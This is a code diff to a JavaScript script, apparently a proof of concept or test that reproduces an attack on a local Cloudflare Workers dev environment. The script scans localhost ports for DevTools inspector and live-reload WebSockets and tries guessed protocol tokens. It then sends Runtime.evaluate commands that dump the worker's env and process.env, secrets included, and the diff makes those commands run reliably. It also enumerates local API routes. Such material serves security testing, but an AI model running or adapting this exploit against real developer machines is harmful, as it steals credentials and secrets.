@@ -18,7 +18,10 @@ const note = (what, outcome, read) => tries.push({ what, outcome, read: String(r
 const paths = ['/', '/core:user:bandit-runner', '/json', '/cdn-cgi/live-reload', '/api/runs/' + targets.runId + '/ws', '/v1/advance'];
 const protocols = [[], ['WRANGLER_PROXYWORKER_LIVE_RELOAD_PROTOCOL'], ['token.guess-0123456789abcdef']];
 // What the attacker ran on the inspector it found: the worker's env, secrets and all.
-const evaluate = JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: 'import("cloudflare:workers").then((m) => JSON.stringify(m.env))', awaitPromise: true, returnByValue: true } });
+// (With nodejs_compat, process.env holds the same text bindings, secrets included, without an import.)
+const expressions = ['import("cloudflare:workers").then((m) => JSON.stringify(m.env))', 'JSON.stringify(globalThis.process?.env ?? null)'];
+const evaluate = (ws, contextId) => expressions.forEach((expression, i) =>
+  ws.send(JSON.stringify({ id: 10 + i, method: 'Runtime.evaluate', params: { expression, awaitPromise: true, returnByValue: true, ...(contextId ? { contextId } : {}) } })));
 
 function tryWebSocket(url, protocol) {
   return new Promise((resolve) => {
@@ -28,9 +31,18 @@ function tryWebSocket(url, protocol) {
     try { ws = new WebSocket(url, protocol); } catch (err) { note('ws ' + url, 'threw ' + err, ''); return resolve(); }
     let finished = false;
     const finish = (outcome) => { if (finished) return; finished = true; clearTimeout(timer); try { ws.close(); } catch {} note('ws ' + url + ' ' + protocol.join(','), outcome, read); resolve(); };
-    const timer = setTimeout(() => finish(opened ? 'opened' : 'no answer'), 2500);
-    ws.onopen = () => { opened = true; ws.send(evaluate); ws.send('{"id":2,"method":"Runtime.evaluate","params":{"expression":"1+1"}}'); };
-    ws.onmessage = (m) => { read += String(m.data) + '\n'; };
+    let timer = setTimeout(() => finish('no answer'), 3000);
+    ws.onopen = () => { opened = true; clearTimeout(timer); timer = setTimeout(() => finish('opened'), 4000); ws.send(JSON.stringify({ id: 1, method: 'Runtime.enable' })); evaluate(ws); };
+    ws.onmessage = (m) => {
+      read += String(m.data) + '\n';
+      // A DevTools target names its execution context once Runtime is enabled: evaluate there.
+      const context = /"executionContextCreated".*?"id":(\d+)/.exec(String(m.data));
+      if (context) {
+        evaluate(ws, Number(context[1]));
+        // The isolate runs inspector commands when it runs: give it a request to run.
+        for (let i = 0; i < 3; i++) setTimeout(() => fetch('http://127.0.0.1:' + targets.workerPort + '/api/health', { mode: 'no-cors' }).catch(() => {}), 200 * i);
+      }
+    };
     ws.onerror = () => { if (!opened) finish('refused'); };
     ws.onclose = () => finish(opened ? 'opened, then closed' : 'refused');
   });
@@ -46,10 +58,11 @@ async function tryFetch(url, init) {
 }
 
 async function attack() {
-  for (const port of targets.ports) {
-    await Promise.all(paths.flatMap((path) => protocols.map((p) => tryWebSocket('ws://127.0.0.1:' + port + path, p))));
+  // One socket at a time per port (an inspector takes one session per target), the ports in parallel.
+  await Promise.all(targets.ports.map(async (port) => {
+    for (const path of paths) for (const p of protocols) await tryWebSocket('ws://127.0.0.1:' + port + path, p);
     for (const path of ['/json/list', '/json/version', '/api/health', '/health']) await tryFetch('http://127.0.0.1:' + port + path);
-  }
+  }));
   const api = 'http://127.0.0.1:' + targets.workerPort + '/api';
   for (const path of ['/runs', '/runs/' + targets.runId, '/runs/' + targets.runId + '/events', '/models', '/openapi.json']) {
     await tryFetch(api + path);
